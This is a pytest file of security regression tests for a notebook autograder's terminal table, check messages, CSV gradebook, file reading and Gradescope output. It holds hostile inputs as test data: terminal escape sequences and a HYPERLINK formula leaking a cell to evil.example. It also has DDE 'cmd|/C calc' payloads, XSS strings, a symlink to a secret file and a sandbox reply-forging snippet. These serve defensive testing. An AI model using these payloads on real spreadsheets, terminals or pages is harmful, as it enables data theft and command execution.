"""What the grader writes is safe for whoever reads it: a terminal (no control characters from a submission), a
student (a message repeats at most 200 characters of a student's text, quoted), a spreadsheet (no formulas, no
forged rows), Gradescope (HTML escaped), and the grader's own files (a submission that is a link, a pipe, a folder
or too large is refused unread). Each test is an attack that worked before these defences."""

from __future__ import annotations

import csv
import json
import os
import re
import threading
import unicodedata
import zipfile

import nbformat
import pytest

from attnconv.course import escape
from attnconv.course.exercises import EXERCISES, CheckResult, score_results
from attnconv.course.gradebook import write_gradebook
from attnconv.course.gradescope import build_autograder, gradescope_results, run
from attnconv.course.report import ExerciseGrade, GradeReport, read_notebook
from toy_course import CHAPTER, honest_cells, write

CH01 = "01_convolution_as_shifts"
SECRET = "TOPSECRET-root-only-line: 7f3a9c"


def _hidden(text: str) -> list[str]:
    """The characters of ``text`` that a terminal would act on or not show (newlines excepted)."""
    return [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def _grade(label: str, results: list[CheckResult], max_points: int = 1) -> ExerciseGrade:
    """An exercise's grade built as the grader builds it (grade._grade_one)."""
    exercise = EXERCISES[label]
    points, passed, message = score_results(exercise, results)
    parts = [{"part": r.part, "passed": r.passed, "message": r.message} for r in results]
    return ExerciseGrade(exercise.label, exercise.kind, passed, points, exercise.points, message, parts)


# ----- 1. the terminal table ---------------------------------------------------------------------------------------

FORGED_ROW = "\r\x1b[2K\x1b[1Aex-toy-answer  code         1/1    right\x1b[8m"


def test_the_table_shows_control_characters_and_cannot_forge_or_hide_a_row(toy):
    grades = [_grade("ex-toy-answer", [CheckResult(False, "your cell raised ValueError: x" + FORGED_ROW)]),
              _grade("ex-toy-square", [CheckResult(False, "received\x08\x08\x08\x08\x08\x08\x08\x08 1\nscore: 4/4",
                                                   "squares\x1b[31m")])]
    report = GradeReport("mallory\x1b[2J.ipynb", CHAPTER, grades,
                         problems=["cell 3 has the grade_id '\x1b]0;pwned\x07\u202edi_edarg'", "bad\rscore: 4/4"])
    table = report.table()
    assert not _hidden(table), _hidden(table)
    lines = table.splitlines()
    assert len(lines) == 2 + len(grades) + len(report.problems) + 1  # header, rule, rows, problems, score
    assert [line.split()[0] for line in lines[2:4]] == ["ex-toy-answer", "ex-toy-square"]
    assert sum(line.startswith("score:") for line in lines) == 1 and lines[-1].startswith("score: 0/3")
    assert "\\x1b[2K" in table and "\\r" in table and "\\x08" in table and "\\u202e" in table
    assert "squares\\x1b[31m: " in table  # a part name too


# ----- 2. a check message repeats at most 200 characters of the student's text, quoted ---------------------------

def test_a_message_quotes_and_caps_the_student_text_it_repeats(toy):
    leak = "".join(f"{i:06d}," for i in range(300))  # 2,100 characters, e.g. the hidden inputs
    grade = _grade("ex-toy-answer", [CheckResult(False, f"your cell raised ValueError: {leak}")])
    assert grade.message.startswith("your cell raised ValueError: '000000,000001,")
    assert f"… ({len(leak) - 200} characters cut)" in grade.message
    assert leak[:200] in grade.message and leak[:201] not in grade.message
    assert grade.parts[0]["message"] == grade.message
    # what a sandbox run on hidden inputs replies, and what a check echoes, are capped as well
    for text in (f"on hidden inputs your cell raised KeyError: {leak}",
                 f"on hidden inputs, using your answer raised TypeError: {leak}",
                 f"your answer could not be checked (ValueError: {leak}); received answer = 1 (int)"):
        message = escape.check_message(text)
        assert leak[:200] in message and leak[:201] not in message and "characters cut" in message, message
    received = escape.check_message(f"received [{leak}] for hidden inputs, expected their squares")
    assert len(received) <= escape.MESSAGE_LIMIT and "characters cut" in received


def test_a_reply_forged_in_the_sandbox_is_no_2000_character_channel(toy):
    from attnconv.course.grade import _grade_one
    from attnconv.course.sandbox import run_function_exercise

    forger = ("import inspect, os\n"
              "reply = inspect.currentframe().f_back.f_locals['reply']\n"
              "reply({'error': PREFIX + 'full marks\\r\\x1b[2K' + ','.join(map(str, xs)) * 200})\n"
              "os._exit(0)\n")
    free = run_function_exercise("ex-toy-square", forger.replace("PREFIX", "''"), 7, 120, ("toy_checks",))
    assert free == (None, "the sandbox's reply could not be read")  # a reply in no form of the sandbox's own
    prefix = repr("on hidden inputs your cell raised KeyError: ")
    answers = {"ex-toy-square": run_function_exercise("ex-toy-square", forger.replace("PREFIX", prefix), 7, 120,
                                                      ("toy_checks",))}
    assert answers["ex-toy-square"][0] is None and len(answers["ex-toy-square"][1]) > 1500  # the forgery arrived
    grade = _grade_one(EXERCISES["ex-toy-square"], {"ex-toy-square": 2}, {}, {}, answers, {"ex-toy-square": 7},
                       None)
    assert grade.points == 0 and len(grade.message) <= escape.MESSAGE_LIMIT, len(grade.message)
    assert "characters cut" in grade.message and not _hidden(grade.message)


def test_a_report_read_back_is_not_quoted_twice(toy):
    grade = _grade("ex-toy-answer", [CheckResult(False, "your cell raised ValueError: boom\n")])
    assert grade.message == "your cell raised ValueError: 'boom\\n'"
    report = GradeReport("a.ipynb", CHAPTER, [grade])
    again = GradeReport.from_json(report.to_json())
    assert again.exercises[0].message == grade.message and again.to_json() == report.to_json()


# ----- 3. the CSV gradebook ----------------------------------------------------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("https:evil.example?q="&A1,"click").ipynb', "@SUM(1+1)*cmd|' /C calc'!A0.ipynb",
                 "+1+1.ipynb", "-2+3.ipynb", "\t=1+1.ipynb", "\r=1+1.ipynb",
                 "eve\nforged,9,9,9,9.ipynb", "bob\r\nmallory,1,1.ipynb"]


def test_the_gradebook_has_no_formulas_and_no_forged_rows(toy, tmp_path):
    reports = []
    for index, name in enumerate(HOSTILE_NAMES):
        grade = _grade("ex-toy-answer", [CheckResult(True, "right")])
        reports.append(GradeReport(name, CHAPTER, [grade], problems=[f"=cmd|'/C calc'!A{index}\nnext line"]))
    target = write_gradebook(reports, tmp_path / "grades.csv")
    rows = list(csv.reader(target.open(newline="")))
    assert len(rows) == 1 + len(reports)
    assert len(target.read_text().splitlines()) == 1 + len(reports)  # no line break inside a cell either
    header = rows[0]
    for row in rows[1:]:
        record = dict(zip(header, row))
        for column in ("student", "notebook", "problems"):
            assert not record[column].startswith(("=", "+", "-", "@", "\t", "\r")), record
            assert "\n" not in record[column] and "\r" not in record[column], record
        assert record["ex-toy-answer"] == "1" and record["auto_score"] == "1" and record["errors"] == "0"
        assert record["total"] == "1" and record["max"].isdigit()  # the grader's numbers stay numbers
    assert rows[1][header.index("notebook")] == "'" + HOSTILE_NAMES[0]
    assert rows[7][header.index("student")] == "eve\\nforged,9,9,9,9"
    assert rows[1][header.index("problems")] == "'=cmd|'/C calc'!A0\\nnext line"


# ----- 4. a submission that is a link, not a regular file, or too large ---------------------------------------------

def _secret(tmp_path):
    secret = tmp_path / "private" / "shadow"
    secret.parent.mkdir()
    secret.write_text(SECRET + "\n")
    return secret


def test_a_symlinked_submission_is_refused_without_its_contents_or_target(tmp_path):
    secret = _secret(tmp_path)
    link = tmp_path / "99_toy.ipynb"
    link.symlink_to(secret)
    with pytest.raises(ValueError) as refused:
        read_notebook(link)
    message = str(refused.value)
    assert "symbolic link" in message and SECRET[:9] not in message and "shadow" not in message
    # a link to a real notebook is refused too: the grader reads nothing a link points to
    notebook = write(tmp_path / "real.ipynb", *honest_cells())
    (tmp_path / "other.ipynb").symlink_to(notebook)
    with pytest.raises(ValueError, match="symbolic link"):
        read_notebook(tmp_path / "other.ipynb")


def test_the_command_line_grader_refuses_a_symlinked_submission(toy):
    from attnconv.course.grade import grade_notebook

    link = toy / "99_toy.ipynb"
    link.symlink_to(_secret(toy))
    with pytest.raises(ValueError, match="symbolic link") as refused:
        grade_notebook(link, CHAPTER, checks=("toy_checks",))
    assert SECRET[:9] not in str(refused.value)


def _read_within(path, seconds: float = 20):
    """read_notebook(path) in a thread: a pipe must not hang the grader (the old reader blocked on it)."""
    outcome: dict = {}

    def target():
        try:
            outcome["value"] = read_notebook(path)
        except Exception as err:  # noqa: BLE001
            outcome["error"] = err

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"reading {path.name} blocked"
    return outcome


@pytest.fixture
def unblock_fifos(tmp_path):
    yield
    for fifo in tmp_path.glob("*.ipynb"):
        if fifo.is_fifo():  # a reader still blocked on it (the old reader) gets an end of file
            try:
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass


def test_a_pipe_or_a_folder_named_ipynb_is_refused_without_blocking(tmp_path, unblock_fifos):
    fifo = tmp_path / "pipe.ipynb"
    os.mkfifo(fifo)
    outcome = _read_within(fifo)
    assert isinstance(outcome.get("error"), ValueError) and "named pipe" in str(outcome["error"])
    folder = tmp_path / "folder.ipynb"
    folder.mkdir()
    with pytest.raises(ValueError, match="a folder"):
        read_notebook(folder)


def test_a_submission_over_the_size_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("x" * 300_000)])
    path = tmp_path / "big.ipynb"
    nbformat.write(nb, path)
    assert read_notebook(path).cells[0].source.startswith("x")  # under the default 50 MB limit
    monkeypatch.setenv("ATTNCONV_MAX_SUBMISSION_MB", "0.1")
    with pytest.raises(ValueError, match=r"over the 0\.1 MB limit"):
        read_notebook(path)


def _autograder(tmp_path, **kw):
    root = tmp_path / "autograder"
    for folder in ("source", "submission", "results"):
        (root / folder).mkdir(parents=True)
    with zipfile.ZipFile(build_autograder("01", tmp_path / "autograder.zip", **kw)) as archive:
        archive.extractall(root / "source")
    return root


def test_gradescope_refuses_a_symlinked_submission_unread(tmp_path, monkeypatch):
    monkeypatch.setenv("ATTNCONV_MAX_SUBMISSION_MB", "50")  # run() sets it from the config; restored afterwards
    root = _autograder(tmp_path)
    secret = _secret(tmp_path)
    (root / "submission" / f"{CH01}.ipynb").symlink_to(secret)
    results = run(root)
    written = (root / "results" / "results.json").read_text()
    assert results["score"] == 0 and "symbolic link" in results["output"]
    assert SECRET[:9] not in written and str(secret) not in written and "shadow" not in written


def test_gradescope_refuses_an_oversized_submission_unread(tmp_path, monkeypatch):
    monkeypatch.setenv("ATTNCONV_MAX_SUBMISSION_MB", "50")
    root = _autograder(tmp_path, max_submission_mb=1)
    (root / "submission" / f"{CH01}.ipynb").write_text(" " * (2 << 20))
    results = run(root)
    assert results["score"] == 0 and "over the 1 MB limit" in results["output"], results


# ----- 5. Gradescope's results.json is HTML-escaped ----------------------------------------------------------------

def test_gradescope_output_is_html_escaped_and_declared_html(toy):
    script = "<script>alert(document.cookie)</script>"
    grade = _grade("ex-toy-answer", [CheckResult(False, f"your cell raised ValueError: {script}")])
    report = GradeReport("a.ipynb", CHAPTER, [grade], cell_errors=[{"cell": 1, "ename": "ValueError",
                                                                     "evalue": "<img src=x onerror=alert(1)>"}],
                         problems=[f"cell 2 has the grade_id '{script}'"])
    results = gradescope_results(report)
    text = json.dumps(results)
    assert "<script>" not in text and "<img" not in text and "&lt;script&gt;" in text
    assert results["output_format"] == results["test_output_format"] == results["test_name_format"] == "html"
    assert all(t["output_format"] == t["name_format"] == "html" for t in results["tests"])
    assert "&lt;script&gt;" in results["tests"][0]["output"]


def test_gradescope_run_escapes_what_an_unreadable_notebook_said(tmp_path, monkeypatch):
    monkeypatch.setenv("ATTNCONV_MAX_SUBMISSION_MB", "50")
    root = _autograder(tmp_path)
    (root / "submission" / f"{CH01}.ipynb").write_text("<script>alert(1)</script>")
    text = json.dumps(run(root))
    assert "<script>" not in text and "not a readable notebook" in text


# ----- 6. a child killed by a signal is said so ----------------------------------------------------------------------

def test_a_negative_exit_status_is_named_as_the_signal(toy, tmp_path):
    assert escape.exit_status(-9) == "killed by signal 9 (SIGKILL)" and escape.exit_status(3) == "exit status 3"
    reason = "this notebook could not be graded: exit status -9"  # what grade._grade_in_worker wrote
    grade = ExerciseGrade("ex-toy-answer", "code", False, 0, 1, reason)
    report = GradeReport("a.ipynb", CHAPTER, [grade], problems=[reason])
    assert grade.message == "this notebook could not be graded: killed by signal 9 (SIGKILL)"
    assert "exit status -9" not in report.table() and "killed by signal 9 (SIGKILL)" in report.table()
    assert "exit status -9" not in json.dumps(gradescope_results(report))
    assert "exit status -9" not in write_gradebook([report], tmp_path / "g.csv").read_text()
    assert not re.search(r"exit status -\d", escape.check_message("the kernel died (exit status -11)"))
